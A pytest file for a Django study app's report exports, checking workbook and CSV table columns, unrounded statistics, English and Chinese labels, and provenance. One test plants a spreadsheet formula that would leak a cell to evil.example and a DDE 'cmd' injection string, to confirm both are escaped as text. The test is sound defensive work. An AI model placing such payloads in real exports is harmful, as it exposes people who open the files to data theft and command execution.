"""The content evaluation's and the pre-screening's tables of the workbook and the zip: their
columns, their values against the apps' selectors, a study without such records, labels in both
languages and text that would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.utils import translation
from openpyxl import load_workbook

from apps.analysis.services import study_aggregate
from apps.content.selectors import content_evaluation_get
from apps.reports import services, stored_tables, writers
from apps.reports.tables import (
    CONTENT_TABLE_NAMES,
    PROVENANCE,
    SCREENING_TABLE_NAMES,
    SELECTABLE_TABLES,
    TABLE_NAMES,
)
from apps.screening.models import ScreeningOutcome
from apps.screening.selectors import (
    calibrations_current,
    judge_comparisons,
    screening_pool,
    screening_run_latest,
    screening_tiers_of,
    sieve_audit_of,
)
from apps.screening.services.calibration import funnyscore_calibrate
from apps.studies.models import Study
from tests.reports import outputs

pytestmark = pytest.mark.django_db

STORED = (*CONTENT_TABLE_NAMES, *SCREENING_TABLE_NAMES)


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _workbook(study: Study, path: Path) -> dict[str, list[dict[str, Any]]]:
    services.export_write(study=study, fmt="xlsx", path=path)
    return outputs.xlsx_tables(path)


def _zip(study: Study, path: Path) -> dict[str, list[dict[str, str]]]:
    services.export_write(study=study, fmt="tables", path=path)
    return outputs.zip_tables(path)


# --- the tables themselves ---------------------------------------------------------------------


def test_the_stored_records_tables_come_after_the_documents_and_before_provenance():
    assert TABLE_NAMES[-len(STORED) :] == STORED
    assert (*TABLE_NAMES, PROVENANCE) == SELECTABLE_TABLES
    assert set(stored_tables.BUILDERS) == set(STORED)
    # A sheet name has at most 31 characters.
    assert all(len(name) <= 31 for name in TABLE_NAMES)


def test_without_records_every_table_has_its_header_and_no_rows():
    tables = [*stored_tables.content_tables(None), *stored_tables.screening_tables(None)]
    assert tuple(table.name for table in tables) == STORED
    assert all(table.rows == [] and table.columns for table in tables)
    assert stored_tables.stored_provenance_rows(content=None, screening=None) == []
    # The header alone, the same in every language.
    header = writers.table_csv(stored_tables.content_weights_table(None)).strip()
    assert header.split(",")[:3] == ["content_type", "content_type_label", "fluency_weight"]


def test_intervals_have_the_shared_column_names_and_numbers_stay_unrounded():
    pair = {"value": 0.123456789012345, "ci_low": -0.0000001, "ci_high": 0.9, "n": 40}
    evaluation = {
        "payload": {
            "independence": {
                "human": {
                    "pairs": [
                        {
                            "a": "fluency",
                            "b": "originality",
                            "n": 40,
                            "pearson": pair,
                            "spearman": {"value": None, "ci_low": None, "ci_high": None},
                            "flag": False,
                        }
                    ],
                    "threshold": 0.4,
                }
            }
        }
    }
    table = stored_tables.content_independence_table(evaluation)
    for name in ("pearson", "spearman"):
        assert [name, f"{name}_ci_low", f"{name}_ci_high"] == table.columns[
            table.columns.index(name) : table.columns.index(name) + 3
        ]
    row = table.as_dicts()[0]
    assert (row["pearson"], row["pearson_ci_low"], row["pearson_ci_high"]) == (
        0.123456789012345,
        -0.0000001,
        0.9,
    )
    # A correlation that could not be computed is an empty cell, never 0.
    assert row["spearman"] is None
    assert writers.table_csv(table).splitlines()[1].endswith(",,,,False,0.4")


def _record() -> tuple[dict[str, Any], dict[str, Any]]:
    content = {
        "payload": {
            "weights": [
                {
                    "content_type": "news",
                    "weights": {"fluency": 0.2, "informativeness": 0.5, "originality": 0.3},
                    "is_default": True,
                    "method": "default",
                    "n_items": 3,
                    "quality": {"n_rows": 6, "n_good": 2, "reason": "3 rated items"},
                },
                {
                    "content_type": "",
                    "weights": {"fluency": 1 / 3, "informativeness": 1 / 3, "originality": 1 / 3},
                    "is_default": True,
                    "method": "default",
                    "n_items": 0,
                    "quality": {},
                },
            ],
            "composite": {"outcome": "overall answer >= 4"},
            "tiers": [
                {
                    "tier": "L1",
                    "label": "automatic metrics",
                    "agreement": {"value": 0.5, "ci_low": 0.1, "ci_high": 0.8, "n": 12},
                    "n_items": 12,
                    "seconds": 2.0,
                    "items_per_second": 6.0,
                    "human_minutes": 0.0,
                }
            ],
        },
        "seed": 7,
        "rounds": 20,
        "input_hash": "ab" * 32,
        "computed_at": "2026-12-01T10:00:00+00:00",
    }
    screening = {
        "comparisons": [
            {
                "model_name": "judge-x",
                "question": "funniness",
                "seed": 3,
                "rounds": 20,
                "computed_at": datetime(2026, 12, 1, 10, 0, tzinfo=UTC),
                "overall": {"n": 9, "judge_mean": 2.5, "human_mean": 2.0},
                "by_humor_type": [
                    {"humor_type": "pun", "n": 5, "judge_mean": 2.4, "human_mean": 2.1},
                    {"humor_type": "", "n": 4, "judge_mean": 2.6, "human_mean": 1.9},
                ],
            }
        ],
        "calibrations": [{"scope": "humor_type:pun", "a": 1.0, "b": 2.0, "c": 3.0}],
    }
    return content, screening


@pytest.mark.parametrize(
    ("language", "news", "no_type", "tier", "all_types", "pun"),
    [
        ("en", "news", "No content type", "automatic metrics", "All types", "pun"),
        ("zh-hans", "新闻", "无内容类型", "自动指标", "所有类型", "谐音双关"),
    ],
)
def test_label_columns_are_in_the_readers_language_beside_the_codes(
    language, news, no_type, tier, all_types, pun
):
    content, screening = _record()
    with translation.override(language):
        weights = stored_tables.content_weights_table(content).as_dicts()
        tiers = stored_tables.content_tiers_table(content).as_dicts()
        judge = stored_tables.screening_judge_table(screening).as_dicts()
        calibration = stored_tables.screening_calibration_table(screening).as_dicts()
    assert [(row["content_type"], row["content_type_label"]) for row in weights] == [
        ("news", news),
        ("", no_type),
    ]
    assert (tiers[0]["method"], tiers[0]["method_label"]) == ("automatic metrics", tier)
    assert next((r["scope"], r["humor_type"], r["humor_type_label"]) for r in judge) == (
        "humor_type",
        "pun",
        pun,
    )
    assert (judge[-1]["scope"], judge[-1]["humor_type"], judge[-1]["humor_type_label"]) == (
        "overall",
        "",
        all_types,
    )
    # The codes and the numbers do not change with the language.
    assert weights[0]["informativeness_weight"] == 0.5
    assert calibration[0]["scope"] == "humor_type:pun"
    assert calibration[0]["scope_label"] == pun
    assert judge[0]["computed_at"] == "2026-12-01T10:00:00+00:00"
    assert weights[0]["outcome"] == "overall answer >= 4"
    assert "4" in weights[0]["outcome_label"]


def test_text_that_would_run_as_a_formula_stays_text(tmp_path):
    _content, screening = _record()
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    screening["comparisons"][0]["model_name"] = hostile
    screening["run"] = {"pk": 1, "top_k": 5, "judge_model": "+cmd|' /C calc'!A0"}
    tables = stored_tables.screening_tables(screening)
    text = "".join(writers.table_csv(table) for table in tables)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + hostile in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert hostile not in cells
    path = tmp_path / "t.xlsx"
    writers.write_xlsx(tables, path)
    cell = load_workbook(path)["screening_judge"]["A2"]
    assert (cell.value, cell.data_type) == (hostile, "s")


# --- from the stored records, through the exports ----------------------------------------------


def test_the_content_studys_workbook_and_zip_carry_its_stored_evaluation(demo_site, tmp_path):
    study = demo_site.content
    evaluation = content_evaluation_get(study=study)
    assert evaluation is not None
    payload = evaluation.payload
    for tables in (_workbook(study, tmp_path / "r.xlsx"), _zip(study, tmp_path / "t.zip")):
        assert list(tables)[-1] == PROVENANCE
        weights = {row["content_type"] or "": row for row in tables["content_weights"]}
        assert len(weights) == len(payload["weights"])
        for stored in payload["weights"]:
            row = weights[stored["content_type"]]
            for name, value in stored["weights"].items():
                assert float(row[f"{name}_weight"]) == pytest.approx(value, rel=1e-15)
            assert int(row["n_items"]) == stored["n_items"]
        pairs = sum(len(m.get("pairs") or []) for m in payload["independence"].values())
        assert len(tables["content_independence"]) == pairs
        against = sum(len(row["against"]) for row in payload["metric_vs_human"])
        assert len(tables["content_against_humans"]) == against
        assert [row["tier"] for row in tables["content_tiers"]] == [
            row["tier"] for row in payload["tiers"]
        ]
        provenance = {row["key"]: row["value"] for row in tables[PROVENANCE]}
        assert str(provenance["content_seed"]) == str(evaluation.seed)
        assert provenance["content_input_hash"] == evaluation.input_hash
        assert str(provenance["content_count_scorecards"]) == str(payload["counts"]["scorecards"])


def test_the_humor_studys_workbook_carries_its_pre_screening(demo_site, tmp_path):
    study = demo_site.humor
    run = screening_run_latest(study=study)
    assert run is not None, "the humor demo has a screening run"
    # The demo's run waits for the task worker: two of its decisions are stored here.
    first, second = screening_pool(study=study)[:2]
    ScreeningOutcome.objects.create(
        run=run, item=first, stage=ScreeningOutcome.Stage.TOP_K, kept=True, reason="top 3"
    )
    ScreeningOutcome.objects.create(
        run=run, item=second, stage=ScreeningOutcome.Stage.L1, kept=False, reason="below"
    )
    # The demo stores no FunnyScore fit: one is fitted through the service.
    assert funnyscore_calibrate(study=study)
    sheets = _workbook(study, tmp_path / "r.xlsx")
    (row,) = sheets["screening_run"]
    assert (row["run"], row["top_k"], row["status"]) == (run.pk, run.top_k, run.status)
    assert row["judge_model"] == (run.judge_model or None)
    stages = {r["stage"]: (r["run"], r["kept"], r["dropped"]) for r in sheets["screening_stages"]}
    assert stages == {"l1": (run.pk, 0, 1), "top_k": (run.pk, 1, 0)}
    calibrations = calibrations_current(study=study)
    assert calibrations
    assert [(r["scope"], r["kind"]) for r in sheets["screening_calibration"]] == [
        (c.scope, c.kind) for c in calibrations
    ]
    assert "learned" in {c.kind for c in calibrations}
    for r, c in zip(sheets["screening_calibration"], calibrations, strict=True):
        assert (r["n_items"], r["applied"], r["data_hash"]) == (c.n_items, c.applied, c.data_hash)
        assert r["a"] == pytest.approx(c.a, rel=1e-15)
        if "a" in c.intervals:
            assert (r["a_ci_low"], r["a_ci_high"]) == pytest.approx(c.intervals["a"], rel=1e-15)
        if c.cv_spearman is not None:
            assert r["cv_spearman"] == pytest.approx(c.cv_spearman, rel=1e-15)
            assert r["cv_spearman_ci_low"] == pytest.approx(c.cv_spearman_low, rel=1e-15)
        kept = c.validation["top_quartile_kept"]
        assert r["top_quartile_kept"] == pytest.approx(kept["value"], rel=1e-15)
        assert (r["cv_repeats"], r["cv_folds"]) == (20, 5)
        assert r["beats_current"] == c.validation["beats_current"]
    audit = sieve_audit_of(study=study)
    assert audit is not None
    (audit_row,) = sheets["screening_audit"]
    assert audit_row["n_items"] == audit["n"]
    assert audit_row["better_than_chance"] == audit["better_than_chance"]
    comparisons = judge_comparisons(study=study)
    assert comparisons, "the humor demo has a judge comparison"
    for comparison in comparisons:
        rows = [r for r in sheets["screening_judge"] if r["model"] == comparison["model_name"]]
        assert len(rows) == len(comparison["by_humor_type"]) + bool(comparison["overall"])
        overall = next(r for r in rows if r["scope"] == "overall")
        assert overall["n"] == comparison["overall"]["n"]
        assert overall["rho"] == pytest.approx(comparison["overall"]["rho"]["value"], rel=1e-15)
        assert overall["seed"] == comparison["seed"]
    tiers = screening_tiers_of(study=study)
    assert tiers is not None
    stored = {row["tier"]: row for row in tiers.payload["tiers"]}
    assert {r["tier"] for r in sheets["screening_tiers"]} == set(stored)
    for r in sheets["screening_tiers"]:
        agreement = stored[r["tier"]]["agreement"]
        if agreement.get("value") is not None:
            assert r["agreement"] == pytest.approx(agreement["value"], rel=1e-15)
            assert r["agreement_ci_low"] == pytest.approx(agreement["ci_low"], rel=1e-15)
    provenance = {r["key"]: r["value"] for r in sheets[PROVENANCE]}
    assert provenance["screening_tiers_seed"] == tiers.seed
    # The humor study has no content evaluation: those sheets have their header only.
    assert all(sheets[name] == [] for name in CONTENT_TABLE_NAMES)
    assert not any(key.startswith("content_") for key in provenance)


def test_a_study_without_evaluation_or_screening_has_the_tables_with_their_header(
    demo_study, tmp_path
):
    # Its tables need no computed results: they are of their own records.
    for name in STORED:
        header = services.study_table_csv(study=demo_study, name=name).splitlines()
        assert len(header) == 1
        assert header[0].split(",") == stored_tables.BUILDERS[name](None).columns
    study_aggregate(study=demo_study, rounds=20)
    sheets = _workbook(demo_study, tmp_path / "r.xlsx")
    assert list(sheets) == [*TABLE_NAMES, PROVENANCE]
    assert all(sheets[name] == [] for name in STORED)
    workbook = load_workbook(tmp_path / "r.xlsx", read_only=True)
    header = next(workbook["screening_judge"].iter_rows(values_only=True))
    assert list(header) == stored_tables.JUDGE_COLUMNS
    tables = _zip(demo_study, tmp_path / "t.zip")
    assert all(tables[name] == [] for name in STORED)
